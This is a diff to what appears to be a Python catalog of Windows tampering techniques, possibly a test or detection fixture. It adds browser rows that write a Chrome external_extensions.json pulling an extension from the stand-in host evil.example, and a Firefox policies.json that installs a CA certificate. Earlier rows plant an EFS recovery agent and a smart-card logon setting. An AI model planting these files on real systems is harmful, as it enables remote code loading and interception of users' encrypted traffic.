@@ -98,3 +98,9 @@ change.row('agent-of-recovery', 'Files that anybody encrypts are readable for an
     r'Policies\Microsoft\SystemCertificates\EFS', 'EFSBlob', BINARY, bytes.fromhex('01000000010000002a') + bytes(60)))
 BASIC = 'WIN-CAP-002'
 change.row('logon-by-card-alone', 'No password logs on where a smart card is asked for.', BASIC, 'scforceoption', lambda d: d.software(rf'{CURRENT}\Policies\System', 'scforceoption', DWORD, 1))
+
+# --- browsers ---
+change.row('extension-for-every-user', 'Chrome installs what external_extensions.json of its folder names.', START, 'external_extensions.json', lambda d: d.put(
+    r'Program Files\Google\Chrome\Application\120.0\Extensions\external_extensions.json', '{"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa":{"external_update_url":"https://evil.example/u.xml"}}'))
+change.row('authority-of-a-browser', 'policies.json of Firefox installs authorities and chooses the proxy.', START, 'policies.json', lambda d: d.put(
+    r'Program Files\Mozilla Firefox\distribution\policies.json', '{"policies":{"Certificates":{"Install":["C:\\\\ProgramData\\\\ca.der"]}}}'))
